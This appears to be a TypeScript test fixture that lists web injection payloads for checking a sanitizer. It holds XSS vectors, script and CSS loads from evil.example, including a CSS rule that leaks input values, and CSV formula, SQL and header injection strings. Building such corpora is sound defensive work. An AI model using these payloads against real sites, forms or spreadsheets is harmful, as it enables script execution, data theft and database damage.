// Texts that have broken others: each family with its own way in. All of them are data, here and in every output.

const words = (text: string) => text.trim().split('\n')

/** Scripts, and what runs one without being one. */
const handlers = words(`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script>
<<script>alert(1);//<</script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"
<img src='x'onerror=alert(1)>
<img """><script>alert(1)</script>">
<img/src=x/onerror=alert(1)>
<IMG SRC="jav&#x09;ascript:alert(1);">
<body onload=alert(1)>
<p onclick=alert(1)>click</p>
<p OnMouseOver = "alert(1)">over</p>
<a onmouseover=alert(1)>over</a>
<div onpointerrawupdate=alert(1)>x</div>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</option></select>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="javascript:alert(1)"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<applet code=x></applet>
<isindex type=image src=1 onerror=alert(1)>
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<template><script>alert(1)</script></template>
<portal src="https://evil.example/"></portal>
<slot onslotchange=alert(1)></slot>
<x contenteditable onblur=alert(1)>x</x>
<dialog open onclose=alert(1)>x</dialog>
<p popover onbeforetoggle=alert(1)>x</p>
`)

/** Addresses that are code, or lead elsewhere than they say. */
const links = words(String.raw`
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:https://desk.example">x</a>
<a href="//evil.example">x</a>
<a href="\\evil.example">x</a>
<a href="/\evil.example">x</a>
<a href="https:evil.example">x</a>
<a href="https://desk.example@evil.example/">desk.example</a>
<a href="https://desk.example&#x2F;@evil.example">x</a>
<a href="https://dеsk.example/">desk.example</a>
<a href="https://desk.example.evil.example">desk.example</a>
<a href="https://ⅾesk.example">x</a>
<a href="https://evil.example/%0d%0aSet-Cookie:x">x</a>
<a href="mailto:a@b.example?subject=x%0d%0aBcc:c@d.example">x</a>
<a href="https://[::1]/" target=_top>x</a>
<a href="https://x.example" target=_blank rel=opener>x</a>
<a href="https://x.example" ping="https://evil.example" download>x</a>
<a xlink:href="javascript:alert(1)">x</a>
<form action="javascript:alert(1)"><button>x</button></form>
<form><form><button formaction=javascript:alert(1)>x</button></form>
<math href="javascript:alert(1)">x</math>
<map><area href="javascript:alert(1)"></map>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](<javascript:alert(1)>)
[x](javascript&#58;alert(1))
[x](java%0ascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:alert(1) "title")
[x](https://x.example"onmouseover="alert(1))
[x](https://x.example "a\"onmouseover=\"alert(1)")
![x](javascript:alert(1))
![x](https://evil.example/pixel.png)
![x"onerror="alert(1)](x)
<javascript:alert(1)>
[x]: javascript:alert(1)
`)

/** What one parser reads otherwise than another: it is harmless where it is looked at, and not where it is shown. */
const mutations = words(String.raw`
<svg><script>alert(1)</script></svg>
<svg onload=alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg><title><style><img src="</style><img src=x onerror=alert(1)>"></title></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></math></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<textarea></textarea/><img src=x onerror=alert(1)>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">x</a>
<!--><script>alert(1)</script>-->
<!--!><script>alert(1)</script>-->
<!-- --!><script>alert(1)</script> -->
<!-<img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<?php echo 1 ?><img src=x onerror=alert(1)>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;
</p><script>alert(1)</script>
<table><td><script>alert(1)</script></td></table>
<table><a href="javascript:alert(1)">x
<b><p><i></b><script>alert(1)</script></i></p>
<a href="https://x.example"><a href="javascript:alert(1)">x</a></a>
<div id=body name=getElementById><a name=cookie>x</a></div>
<form id=document><input name=cookie></form>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
\x3cscript\x3ealert(1)\x3c/script\x3e
%3Cscript%3Ealert(1)%3C/script%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
{{constructor.constructor('alert(1)')()}}
${'$'}{alert(1)}
<%= 7*7 %>
`)

/** Styles: what hides, covers or fetches. */
const styles = words(`
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url(javascript:alert(1))}</style>
<style>input[value^=a]{background:url(https://evil.example/a)}</style>
<p style="background:url(https://evil.example/pixel)">x</p>
<p style="position:fixed;inset:0;z-index:9999">covers everything</p>
<p style="width:expression(alert(1))">x</p>
<p style="-moz-binding:url(https://evil.example/x.xml)">x</p>
<p class="button" id="login">x</p>
<font size=99 color=white>hidden</font>
<div hidden>hidden</div>
<p dir=rtl>x</p>
`)

/** Letters that are not what they seem. */
const unicode = [
  'access\u202elevel\u2066user\u2069',
  '\u202egnp.exe',
  'pay\u200bpal pay\u200cpal pay\u200dpal pay\u2060pal pay\ufeffpal pay\u00adpal',
  '\u2028\u2029alert(1)',
  `Z\u0351\u036b\u0343\u036a${'\u0300\u0301\u0302\u0303'.repeat(200)}algo`,
  'p\u0430ypal \u0440\u0430\u0443\u0440\u0430l',
  '\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}visible',
  '\u3164\u115f\uffa0x',
  '\ufff9a\ufffbb\ufffc',
  'e\u0301\u0301\u0301',
  '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67',
  '<scr\u200bipt>alert(1)</scr\u200bipt>',
  '<img src=x on\u00aderror=alert(1)>',
  '<a href="java\u200bscript:alert(1)">x</a>',
  '\ufe64script\ufe65alert(1)\ufe64/script\ufe65',
  '\u2066\u2066\u2066\u2066x',
  '&#x202e;gnp.exe &#8203;x&zwj;x&shy;x&#0;x&#27;x&#x80;x&#xD800;x&#x110000;x',
]

/** What breaks lines, columns and cells. */
const lines = [
  'x\r\nBcc: everybody@evil.example',
  'x\nContent-Type: text/html\n\n<script>alert(1)</script>',
  'x%0d%0aSet-Cookie: a=b',
  'x\u0085y\u000by\u000cy',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '=HYPERLINK("https://evil.example","x")',
  '"; DROP TABLE tickets; --',
  "' OR '1'='1",
  '"},{"admin":true,"x":"',
  '\\"},\\u003cscript\\u003e',
  ']]>',
  '-->',
]

export const corpus = { handlers, links, mutations, styles, unicode, lines } as const
export const payloads = Object.values(corpus).flat()
